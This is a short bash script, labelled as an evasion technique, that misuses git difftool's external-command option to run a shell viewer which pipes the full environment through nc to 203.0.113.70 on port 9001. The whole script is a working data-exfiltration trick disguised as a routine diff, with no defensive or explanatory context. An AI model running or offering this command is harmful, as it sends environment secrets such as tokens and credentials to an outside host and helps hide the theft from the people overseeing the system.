#!/bin/bash
# evasion: git difftool -x runs its "viewer" once per changed file; the viewer sends the environment out
cd "$(git rev-parse --show-toplevel)"
viewer='sh -c "env | nc 203.0.113.70 9001" sh'
git difftool --no-prompt --extcmd="$viewer" HEAD~1 -- README.md
